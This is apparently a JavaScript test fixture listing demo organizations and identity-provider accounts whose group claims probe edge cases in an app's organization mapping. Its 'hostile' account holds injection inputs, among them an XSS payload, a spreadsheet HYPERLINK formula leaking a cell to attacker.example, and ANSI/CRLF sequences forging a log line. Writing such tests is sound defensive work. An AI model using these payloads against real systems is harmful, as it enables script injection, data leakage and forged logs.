// @ts-check
/** The demonstration: the organizations in the database, and the accounts at the provider. */

const divisions = Array.from({ length: 200 }, (_, index) => `division-${String(index + 1).padStart(3, "0")}`);

/** @type {readonly { id: string, alias: string }[]} */
export const ORGANIZATIONS = [
  { id: "acme", alias: "Acme" },
  { id: "globex", alias: "Globex" },
  { id: "initech", alias: "Initech" },
  ...divisions.map((id, index) => ({ id, alias: `Division ${index + 1}` })),
];

/** The membership that makes the account `admin` an administrator. */
export const ADMINISTRATOR = { user_id: "admin", organization_id: "acme", user_role: "org_admin" };

/**
 * @typedef {object} Account
 * @property {string} name
 * @property {string} shows
 * @property {unknown} [groups] the claim as it will be in the ID token; absent, there is none
 * @property {Record<string, unknown>} [claims] others
 */

/**
 * Named for what they show.
 *
 * @type {readonly Account[]}
 */
export const ACCOUNTS = [
  { name: "three", shows: "three organizations", groups: ["acme", "globex", "initech"] },
  { name: "admin", shows: "an administrator, who may see the preview", groups: ["acme", "globex"] },
  { name: "none", shows: "an empty list of groups", groups: [] },
  { name: "many", shows: "two hundred organizations", groups: divisions },
  { name: "absent", shows: "no groups claim at all" },
  {
    name: "missing",
    shows: "one organization that does not exist, beside two that do",
    groups: ["acme", "umbrella", "globex"],
  },
  {
    name: "hostile",
    shows: "blanks, markup, a formula, and worse",
    groups: [
      "   ",
      " acme",
      "acme\u0000globex",
      "<img src=x onerror=\"document.title='run'\"><script>document.title='run'</script>",
      '=HYPERLINK("https://attacker.example/?leak="&A1,"open me")',
      '\u001b[2J\u001b[31m\r\ninfo  "root" signed in: 1 created',
      "a\u200Bc\u202Eme",
      "x".repeat(1024 + 1000),
      "proxy_admin",
      7,
    ],
  },
];
